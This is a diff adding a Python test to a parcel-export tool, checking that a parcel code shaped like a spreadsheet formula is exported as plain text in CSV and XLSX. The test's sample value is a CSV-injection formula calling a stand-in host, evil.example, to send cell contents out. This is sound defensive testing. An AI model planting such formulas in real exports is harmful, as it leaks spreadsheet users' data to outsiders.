@@ -147,3 +147,16 @@ def test_the_cli_exports_the_same_query(fresh_database_url, tmp_path):
     assert set(pyogrio.read_dataframe(out)["code"]) == {"T-P1", "T-P4", "T-P7"}
     bad = CliRunner().invoke(cli, ["freed-land", "-o", str(out), "--filter", "year_from=soon"], env=env)
     assert bad.exit_code == 2 and "year_from" in bad.output
+
+
+def test_a_parcel_code_that_looks_like_a_formula_is_text_in_both_spreadsheets(session, stored, tmp_path):
+    """Codes are typed by district staff: a spreadsheet must not run one as a formula (CSV injection)."""
+    link = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
+    session.execute(text("UPDATE parcels SET code = :link WHERE code = :c"), {"link": link, "c": sorted(stored)[0]})
+    rows = list(csv.reader(io.StringIO(export(session, "csv").content.decode("utf-8-sig"))))
+    assert "'" + link in [row[0] for row in rows[1:]]
+    assert all(row[2].replace(".", "", 1).isdigit() for row in rows[1:])  # areas stay numbers
+    path = tmp_path / "freed.xlsx"
+    path.write_bytes(export(session, "xlsx").content)
+    cells = [row[0] for row in load_workbook(path).active.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in cells if c.value == link] == [(link, "s")]
